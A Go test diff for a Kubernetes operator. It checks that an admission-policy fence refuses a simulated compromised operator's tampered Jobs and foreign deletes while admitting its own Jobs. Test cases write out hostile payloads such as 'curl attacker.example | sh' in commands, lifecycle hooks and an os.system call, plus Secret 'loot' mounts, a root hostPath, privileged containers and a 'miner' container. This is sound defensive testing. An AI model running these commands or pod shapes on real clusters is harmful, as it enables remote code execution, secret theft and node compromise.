@@ -4,10 +4,12 @@ import (
 	"context"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
 	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
+	batchv1 "k8s.io/api/batch/v1"
 	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
 	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
@@ -16,13 +18,19 @@ import (
 	"k8s.io/apimachinery/pkg/runtime"
 	"k8s.io/apimachinery/pkg/types"
 	clientgoscheme "k8s.io/client-go/kubernetes/scheme"
+	"k8s.io/utils/ptr"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 	"sigs.k8s.io/yaml"
 
+	"github.com/dgdr-operator/dgdr-operator/api/config/v1alpha1"
+	"github.com/dgdr-operator/dgdr-operator/api/v1beta2"
+	"github.com/dgdr-operator/dgdr-operator/internal/controller/request"
 	"github.com/dgdr-operator/dgdr-operator/internal/controller/run"
 	"github.com/dgdr-operator/dgdr-operator/internal/jobcontract"
+	"github.com/dgdr-operator/dgdr-operator/internal/modelaccess"
 	testenv "github.com/dgdr-operator/dgdr-operator/internal/testing/env"
 	"github.com/dgdr-operator/dgdr-operator/internal/testing/poll"
+	"github.com/dgdr-operator/dgdr-operator/internal/verification"
 )
 
 // generatedRules are the rules of the generated ClusterRole (config/rbac/role.yaml), which the
@@ -40,19 +48,53 @@ func generatedRules(t *testing.T) []rbacv1.PolicyRule {
 	return generated.Rules
 }
 
+// fencedOperator returns a client authenticated as a fresh ServiceAccount ns/name holding exactly
+// the generated ClusterRole, bound cluster-wide (the chart's binding when watchNamespaces is
+// empty), under the chart's fence for that user and fenceCfg (jobcontract.OperatorFencePolicy),
+// once the API server enforces it.
+func fencedOperator(t *testing.T, ns, name string, fenceCfg *v1alpha1.OperatorConfiguration) client.Client {
+	t.Helper()
+	ctx := context.Background()
+	admin := mustClient(t)
+	operator := asOperator(t, ns, name, generatedRules(t))
+	policy, binding := jobcontract.OperatorFencePolicy(jobcontract.FenceOptionsFor("system:serviceaccount:"+ns+":"+name, fenceCfg))
+	policy.Name, binding.Name, binding.Spec.PolicyName = "fence-"+ns, "fence-"+ns, "fence-"+ns
+	for _, obj := range []client.Object{policy, binding} {
+		if err := admin.Create(ctx, obj); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Cleanup(func() { _ = admin.Delete(ctx, binding); _ = admin.Delete(ctx, policy) })
+	// The API server loads policies asynchronously: wait until a forbidden write is refused.
+	poll.Eventually(t, 30*time.Second, "the fence refusing a ConfigMap in kube-system", func() (bool, error) {
+		err := operator.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "fence-probe"}}, client.DryRunAll)
+		return apierrors.IsForbidden(err), nil
+	})
+	return operator
+}
+
+// fenceConfig is the package's operator configuration with what the fence also pins: configured
+// search arguments and a verification image.
+func fenceConfig() *v1alpha1.OperatorConfiguration {
+	c := cfg.DeepCopy()
+	c.Planner.Args = []string{"--seed", "7"}
+	c.Verification.Image = "registry.example/aiperf:0.13.0"
+	return c
+}
+
 // TestOperatorIsFenced plays a compromised operator: a ServiceAccount holding exactly the
 // generated ClusterRole, bound cluster-wide (the chart's binding when watchNamespaces is empty),
-// under the chart's fence (jobcontract.OperatorFencePolicy for its user and the configured
-// images). It may still do its job (apply the search-identity policy, patch its own CRD, create
-// the search identity and Job of a Run), and is refused (403) on a foreign CRD, on any other
-// admission policy, on a Job in kube-system, on a Job with another image or ServiceAccount, and
-// on ServiceAccounts, Roles and RoleBindings under other names. Reverted (CRD and policy rules
+// under the chart's fence (jobcontract.OperatorFencePolicy for its user and the configuration).
+// It may still do its job (apply the search-identity policy, patch its own CRD, create the search
+// identity and Job of a Run), and is refused (403) on a foreign CRD, on any other admission
+// policy, on a Job in kube-system, on a Job with another image or ServiceAccount, and on
+// ServiceAccounts, Roles and RoleBindings under other names. Reverted (CRD and policy rules
 // without resourceNames, no fence), every one of these succeeds.
 func TestOperatorIsFenced(t *testing.T) {
 	ctx := context.Background()
 	admin := mustClient(t)
 	ns := testenv.Namespace(t, k8s, "t")
-	operator := asOperator(t, ns, "fenced-operator", generatedRules(t))
+	operator := fencedOperator(t, ns, "fenced-operator", cfg)
 	s := runtime.NewScheme()
 	if err := clientgoscheme.AddToScheme(s); err != nil {
 		t.Fatal(err)
@@ -65,28 +107,11 @@ func TestOperatorIsFenced(t *testing.T) {
 		t.Fatal(err)
 	}
 
-	policy, binding := jobcontract.OperatorFencePolicy(jobcontract.FenceOptions{
-		Username: "system:serviceaccount:" + ns + ":fenced-operator", Images: []string{cfg.Planner.Image, cfg.Reporter.Image}})
-	policy.Name, binding.Name, binding.Spec.PolicyName = "fence-"+ns, "fence-"+ns, "fence-"+ns
-	for _, obj := range []client.Object{policy, binding} {
-		if err := admin.Create(ctx, obj); err != nil {
-			t.Fatal(err)
-		}
-	}
-	t.Cleanup(func() { _ = admin.Delete(ctx, binding); _ = admin.Delete(ctx, policy) })
-
 	r := createRun(t, ns, "fenced", nil)
 	waitForJob(t, r)
 	r = getRun(t, r)
 	job := run.BuildJob(r, cfg)
 	job.Name = "probe-job"
-	// The API server loads policies asynchronously: wait until a forbidden write is refused.
-	poll.Eventually(t, 30*time.Second, "the fence refusing a Job in kube-system", func() (bool, error) {
-		j := job.DeepCopy()
-		j.Namespace, j.OwnerReferences = "kube-system", nil
-		err := operator.Create(ctx, j, client.DryRunAll)
-		return apierrors.IsForbidden(err), nil
-	})
 
 	foreignCRD := &apiextensionsv1.CustomResourceDefinition{
 		ObjectMeta: metav1.ObjectMeta{Name: "widgets.fence.example.com"},
@@ -156,6 +181,303 @@ func TestOperatorIsFenced(t *testing.T) {
 	for _, obj := range []client.Object{sa, rb, job} {
 		if err := operator.Create(ctx, obj); err != nil {
 			t.Errorf("the fenced operator creating %T %s: %v", obj, obj.GetName(), err)
+		}
+	}
+}
+
+// fenceRun is a Run as the Run controller has it when it builds the Job (UID, recorded input
+// hash), in namespace ns; mutate gives it the model access, trace or re-search of a case.
+func fenceRun(ns, name string, mutate func(*v1beta2.DynamoGraphDeploymentRun)) *v1beta2.DynamoGraphDeploymentRun {
+	r := &v1beta2.DynamoGraphDeploymentRun{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, UID: types.UID("00000000-0000-4000-8000-0000000000" + name[len(name)-2:]),
+		Labels: map[string]string{v1beta2.LabelRequestName: "req"}}, Spec: admittedSpec()}
+	r.Status.AISimulate = &v1beta2.AISimulateStatus{InputHash: "sha256:in"}
+	if mutate != nil {
+		mutate(r)
+	}
+	return r
+}
+
+// withModelAccess gives the Run a token Secret and a model cache claim.
+func withModelAccess(r *v1beta2.DynamoGraphDeploymentRun) {
+	r.Spec.Model.TokenSecretRef = &v1beta2.TokenSecretReference{Name: "hf", Key: "token"}
+	r.Spec.Model.Cache = &v1beta2.ModelCacheSpec{PVC: &v1beta2.ModelCachePVC{ClaimName: "models", Path: "hf"}}
+}
+
+// asResearch makes the Run a re-search of a deployment with capture whose recorded baseline
+// runs beside the search, its window cut from the capture claim (pruned: the claim is writable).
+func asResearch(r *v1beta2.DynamoGraphDeploymentRun) {
+	withModelAccess(r)
+	r.Annotations = map[string]string{v1beta2.AnnotationResearchWindowEnd: "2026-12-03T12:00:00Z"}
+	r.Spec.Workload = &v1beta2.WorkloadSpec{Trace: &v1beta2.TraceWorkload{
+		Source: &v1beta2.TraceSource{PVC: &v1beta2.TracePVCSource{ClaimName: "traffic", Path: "t.jsonl"}}}}
+	r.Spec.Deployment = &v1beta2.DeploymentSpec{Capture: &v1beta2.CaptureSpec{Enabled: ptr.To(true), ClaimName: "traffic",
+		Rotation: &v1beta2.CaptureRotation{MaxAgeHours: ptr.To[int32](48)}}}
+	r.Spec.Research = &v1beta2.ResearchSpec{IntervalMinutes: 60, WindowMinutes: ptr.To[int32](360), MinRequests: ptr.To[int32](50)}
+	r.Status.AISimulate.Baseline = &v1beta2.BaselineInputStatus{Candidate: "llama-run-1-0001",
+		Input: &runtime.RawExtension{Raw: []byte(`{"engine":{}}`)}, InputHash: "sha256:base"}
+}
+
+// verificationJob is the operator's verification Job (verification.BuildJob) of a request in ns.
+func verificationJob(ns string, c *v1alpha1.OperatorConfiguration) *batchv1.Job {
+	dgdr := &v1beta2.DynamoGraphDeploymentRequest{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "llama", UID: "00000000-0000-4000-8000-00000000aaaa"}}
+	p := &verification.Plan{Load: v1beta2.VerificationLoad{Concurrency: ptr.To[int32](4), InputTokens: ptr.To[int32](512), OutputTokens: ptr.To[int32](64)},
+		Requests: 50, MaxDurationSeconds: 90}
+	return verification.BuildJob(dgdr, p, verification.Target{URL: "http://llama-frontend." + ns + ".svc:8000", Model: "org/llama", Deployment: "llama", Generation: 3}, c)
+}
+
+// TestOperatorFenceAdmitsItsOwnJobs: every Job the operator builds passes its fence: the search
+// Job of a plain Run, with model access (token Secret, cache claim), with a trace from a
+// ConfigMap or a claim, and a re-search's (baseline container, window cut from the capture
+// claim), and the verification Job. Before, the fence refused the verification Job (no search
+// identity), so every verification failed with 403.
+func TestOperatorFenceAdmitsItsOwnJobs(t *testing.T) {
+	ctx := context.Background()
+	ns := testenv.Namespace(t, k8s, "t")
+	c := fenceConfig()
+	operator := fencedOperator(t, ns, "operator", c)
+	jobs := map[string]*batchv1.Job{
+		"search":                   run.BuildJob(fenceRun(ns, "run-01", nil), c),
+		"search with model access": run.BuildJob(fenceRun(ns, "run-02", withModelAccess), c),
+		"search of a ConfigMap trace": run.BuildJob(fenceRun(ns, "run-03", func(r *v1beta2.DynamoGraphDeploymentRun) {
+			r.Spec.Workload = &v1beta2.WorkloadSpec{Trace: &v1beta2.TraceWorkload{
+				Source: &v1beta2.TraceSource{ConfigMap: &v1beta2.TraceConfigMapSource{Name: "trace", Key: "t.jsonl"}}}}
+		}), c),
+		"search of a claim trace": run.BuildJob(fenceRun(ns, "run-04", func(r *v1beta2.DynamoGraphDeploymentRun) {
+			withModelAccess(r)
+			r.Spec.Workload = &v1beta2.WorkloadSpec{Trace: &v1beta2.TraceWorkload{
+				Source: &v1beta2.TraceSource{PVC: &v1beta2.TracePVCSource{ClaimName: "traces", Path: "t.jsonl"}}}}
+		}), c),
+		"re-search with baseline and capture": run.BuildJob(fenceRun(ns, "run-05", asResearch), c),
+		"verification":                        verificationJob(ns, c),
+	}
+	research := jobs["re-search with baseline and capture"].Spec.Template.Spec
+	if len(research.Containers) != 3 || !hasVolume(research, jobcontract.CaptureVolume) || !hasVolume(research, modelaccess.VolumeName) {
+		t.Fatalf("the re-search Job lacks the baseline container or the capture and cache volumes: %+v", research)
+	}
+	for name, job := range jobs {
+		if err := operator.Create(ctx, job, client.DryRunAll); err != nil {
+			t.Errorf("the fenced operator creating its %s Job: %v", name, err)
+		}
+	}
+}
+
+func hasVolume(spec corev1.PodSpec, name string) bool {
+	for _, v := range spec.Volumes {
+		if v.Name == name {
+			return true
+		}
+	}
+	return false
+}
+
+// containerNamed returns the named container of spec (init containers too).
+func containerNamed(spec *corev1.PodSpec, name string) *corev1.Container {
+	for i := range spec.InitContainers {
+		if spec.InitContainers[i].Name == name {
+			return &spec.InitContainers[i]
+		}
+	}
+	for i := range spec.Containers {
+		if spec.Containers[i].Name == name {
+			return &spec.Containers[i]
+		}
+	}
+	return nil
+}
+
+// TestOperatorFenceRefusesOtherJobs plays a compromised operator creating, in a tenant namespace,
+// a Job shaped like its own with one change that would let it run other code, read a Secret, or
+// reach the node: each is refused (403) with a message naming what the fence admits. Without
+// the rule that refuses it, each is admitted (the operator's RBAC allows any Job).
+func TestOperatorFenceRefusesOtherJobs(t *testing.T) {
+	ctx := context.Background()
+	ns := testenv.Namespace(t, k8s, "t")
+	c := fenceConfig()
+	operator := fencedOperator(t, ns, "operator", c)
+	search := run.BuildJob(fenceRun(ns, "run-01", asResearch), c)
+	verify := verificationJob(ns, c)
+	secretVolume := corev1.Volume{Name: "loot", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "db-credentials"}}}
+	cases := []struct {
+		name   string
+		base   *batchv1.Job
+		mutate func(*corev1.PodSpec)
+		want   string // in the refusal's message
+	}{
+		{"an extra Secret volume", search, func(p *corev1.PodSpec) {
+			p.Volumes = append(p.Volumes, secretVolume)
+			s := containerNamed(p, jobcontract.SearchContainer)
+			s.VolumeMounts = append(s.VolumeMounts, corev1.VolumeMount{Name: "loot", MountPath: "/loot"})
+		}, "not loot"},
+		{"a Secret volume under the cache's name", search, func(p *corev1.PodSpec) {
+			for i := range p.Volumes {
+				if p.Volumes[i].Name == modelaccess.VolumeName {
+					p.Volumes[i].VolumeSource = corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "db-credentials"}}
+				}
+			}
+		}, "not " + modelaccess.VolumeName},
+		{"a Secret projected into the token volume", search, func(p *corev1.PodSpec) {
+			for i := range p.Volumes {
+				if p.Volumes[i].Name == jobcontract.TokenVolume {
+					p.Volumes[i].Projected.Sources = append(p.Volumes[i].Projected.Sources, corev1.VolumeProjection{
+						Secret: &corev1.SecretProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "db-credentials"}}})
+				}
+			}
+		}, "not " + jobcontract.TokenVolume},
+		{"a Secret volume in the verification Job", verify, func(p *corev1.PodSpec) {
+			p.Volumes = append(p.Volumes, secretVolume)
+		}, "not loot"},
+		{"a hostPath volume", search, func(p *corev1.PodSpec) {
+			p.Volumes = append(p.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
+		}, "not host"},
+		{"a privileged container", search, func(p *corev1.PodSpec) {
+			// The API server refuses privileged with allowPrivilegeEscalation: false itself.
+			sc := containerNamed(p, jobcontract.ReporterContainer).SecurityContext
+			sc.Privileged, sc.AllowPrivilegeEscalation = ptr.To(true), nil
+		}, "refused in " + jobcontract.ReporterContainer},
+		{"an added capability", verify, func(p *corev1.PodSpec) {
+			p.Containers[0].SecurityContext.Capabilities.Add = []corev1.Capability{"NET_ADMIN"}
+		}, "refused in " + verification.ContainerName},
+		{"privilege escalation", search, func(p *corev1.PodSpec) {
+			containerNamed(p, jobcontract.InputContainer).SecurityContext.AllowPrivilegeEscalation = ptr.To(true)
+		}, "refused in " + jobcontract.InputContainer},
+		{"the host network", search, func(p *corev1.PodSpec) { p.HostNetwork = true }, "no host network"},
+		{"the host PID namespace", verify, func(p *corev1.PodSpec) { p.HostPID = true }, "no host network, PID"},
+		{"another search command", search, func(p *corev1.PodSpec) {
+			containerNamed(p, jobcontract.SearchContainer).Command = []string{"sh", "-c", "curl attacker.example | sh"}
+		}, "search (" + c.Planner.Image + ")"},
+		{"other search arguments", search, func(p *corev1.PodSpec) {
+			s := containerNamed(p, jobcontract.SearchContainer)
+			s.Args = append(s.Args, "--plugin", "/loot/x.py")
+		}, "running " + strings.Join(c.Planner.Command, " ")},
+		{"another baseline command", search, func(p *corev1.PodSpec) {
+			containerNamed(p, jobcontract.BaselineContainer).Command = []string{"python3", "-c", "import os"}
+		}, "optionally container " + jobcontract.BaselineContainer},
+		{"a command for the reporter image", search, func(p *corev1.PodSpec) {
+			containerNamed(p, jobcontract.ReporterContainer).Command = []string{"/bin/sh"}
+		}, "its entrypoint"},
+		{"another verification program", verify, func(p *corev1.PodSpec) {
+			p.Containers[0].Args[1] = "import os; os.system('curl attacker.example | sh')"
+		}, "verification program"},
+		{"an extra container", search, func(p *corev1.PodSpec) {
+			p.Containers = append(p.Containers, corev1.Container{Name: "miner", Image: c.Planner.Image, Command: c.Planner.Command})
+		}, "miner (" + c.Planner.Image + ")"},
+		{"a lifecycle hook", search, func(p *corev1.PodSpec) {
+			containerNamed(p, jobcontract.SearchContainer).Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{
+				Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "curl attacker.example | sh"}}}}
+		}, "no lifecycle hooks or probes, refused in " + jobcontract.SearchContainer},
+		{"the token mounted into the search container", search, func(p *corev1.PodSpec) {
+			s := containerNamed(p, jobcontract.SearchContainer)
+			s.VolumeMounts = append(s.VolumeMounts, corev1.VolumeMount{Name: jobcontract.TokenVolume, MountPath: jobcontract.TokenDir})
+		}, jobcontract.TokenVolume + " at " + jobcontract.TokenDir},
+		{"a writable volume over the image's code", verify, func(p *corev1.PodSpec) {
+			p.Containers[0].VolumeMounts = append(p.Containers[0].VolumeMounts, corev1.VolumeMount{Name: verification.TmpVolume, MountPath: "/usr/lib/python3"})
+		}, "at /usr/lib/python3"},
+		{"an environment variable of the attacker's", search, func(p *corev1.PodSpec) {
+			s := containerNamed(p, jobcontract.SearchContainer)
+			s.Env = append(s.Env, corev1.EnvVar{Name: "PYTHONPATH", Value: "/var/run/dgdr/trace"})
+		}, "PYTHONPATH"},
+		{"another Secret read into the environment", search, func(p *corev1.PodSpec) {
+			r := containerNamed(p, jobcontract.ReporterContainer)
+			r.EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "db-credentials"}}}}
+		}, jobcontract.ReporterContainer + ": envFrom"},
+		{"a Secret read under a variable of the operator's", search, func(p *corev1.PodSpec) {
+			r := containerNamed(p, jobcontract.ReporterContainer)
+			r.Env[0].Value, r.Env[0].ValueFrom = "", &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
+				LocalObjectReference: corev1.LocalObjectReference{Name: "db-credentials"}, Key: "password"}}
+		}, jobcontract.ReporterContainer + ": " + jobcontract.EnvRunName},
+		{"a block device", search, func(p *corev1.PodSpec) {
+			s := containerNamed(p, jobcontract.SearchContainer)
+			s.VolumeDevices = []corev1.VolumeDevice{{Name: jobcontract.CaptureVolume, DevicePath: "/dev/xvda"}}
+		}, jobcontract.SearchContainer + ": volumeDevices"},
+		{"an automounted token", verify, func(p *corev1.PodSpec) { p.AutomountServiceAccountToken = ptr.To(true) }, "automountServiceAccountToken: false"},
+		{"a verification Job with a ServiceAccount", verify, func(p *corev1.PodSpec) { p.ServiceAccountName = "builder" }, "only a search Job names a ServiceAccount"},
+		{"the token volume in the verification Job", verify, func(p *corev1.PodSpec) {
+			for _, v := range search.Spec.Template.Spec.Volumes {
+				if v.Name == jobcontract.TokenVolume {
+					p.Volumes = append(p.Volumes, v)
+				}
+			}
+		}, "not " + jobcontract.TokenVolume},
+		{"running as root", verify, func(p *corev1.PodSpec) {
+			p.SecurityContext.RunAsNonRoot, p.SecurityContext.RunAsUser = ptr.To(false), ptr.To[int64](0)
+			p.Containers[0].SecurityContext.RunAsNonRoot = nil
+		}, "non-root"},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			job := tc.base.DeepCopy()
+			tc.mutate(&job.Spec.Template.Spec)
+			err := operator.Create(ctx, job, client.DryRunAll)
+			if !apierrors.IsForbidden(err) {
+				t.Fatalf("err = %v, want 403 Forbidden", err)
+			}
+			if !strings.Contains(err.Error(), tc.want) {
+				t.Errorf("the refusal %q does not say %q", err, tc.want)
+			}
+		})
+	}
+}
+
+// TestOperatorFenceDeletes plays a compromised operator deleting (dry run): nothing in
+// kube-system, no Job, ServiceAccount or Run it did not mark as its own, and no kind it never
+// deletes; what it made (its search and verification Jobs, the search identity, Runs of a
+// request) it still deletes. Before, the fence matched no delete: the operator's RBAC let it
+// delete ConfigMaps, ServiceAccounts, RoleBindings and Jobs anywhere.
+func TestOperatorFenceDeletes(t *testing.T) {
+	ctx := context.Background()
+	ns := testenv.Namespace(t, k8s, "t")
+	admin := mustClient(t)
+	c := fenceConfig()
+	operator := fencedOperator(t, ns, "operator", c)
+	create := func(obj client.Object) client.Object {
+		t.Helper()
+		if err := k8s.Create(ctx, obj); err != nil {
+			t.Fatal(err)
+		}
+		return obj
+	}
+	systemConfigMap := create(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "fence-" + ns}})
+	t.Cleanup(func() { _ = admin.Delete(ctx, systemConfigMap) })
+	foreignJob := create(&batchv1.Job{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tenant-job"},
+		Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
+			Containers: []corev1.Container{{Name: "main", Image: "registry.example/tenant:1"}}}}}})
+	foreignIdentity := create(&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: jobcontract.SearchIdentityPrefix + "tenant"}})
+	tenantConfigMap := create(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tenant-settings"}})
+	unmarkedRun := create(fenceRun(ns, "run-01", func(r *v1beta2.DynamoGraphDeploymentRun) { r.UID = "" }))
+
+	owner := fenceRun(ns, "run-02", nil)
+	searchJob := run.BuildJob(owner, c)
+	sa, binding := run.BuildSearchIdentity(owner)
+	verifyJob := verificationJob(ns, c)
+	requestRun, err := request.BuildRun(&v1beta2.DynamoGraphDeploymentRequest{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "llama",
+		UID: "00000000-0000-4000-8000-00000000bbbb"}, Spec: admittedSpec()}, "sha256:in")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, obj := range []client.Object{searchJob, sa, binding, verifyJob, requestRun} {
+		create(obj)
+	}
+
+	refused := map[string]client.Object{
+		"a ConfigMap in kube-system":                       systemConfigMap,
+		"a tenant's Job":                                   foreignJob,
+		"a ServiceAccount named like a search identity":    foreignIdentity,
+		"a tenant's ConfigMap (the operator deletes none)": tenantConfigMap,
+		"a Run no request made":                            unmarkedRun,
+	}
+	for what, obj := range refused {
+		err := operator.Delete(ctx, obj, client.DryRunAll)
+		if !apierrors.IsForbidden(err) {
+			t.Errorf("deleting %s as the fenced operator: err = %v, want 403 Forbidden", what, err)
+		}
+	}
+	admitted := map[string]client.Object{
+		"its search Job": searchJob, "its search ServiceAccount": sa, "its search RoleBinding": binding,
+		"its verification Job": verifyJob, "a request's Run": requestRun,
+	}
+	for what, obj := range admitted {
+		if err := operator.Delete(ctx, obj, client.DryRunAll); err != nil {
+			t.Errorf("deleting %s as the fenced operator: %v", what, err)
 		}
 	}
 }
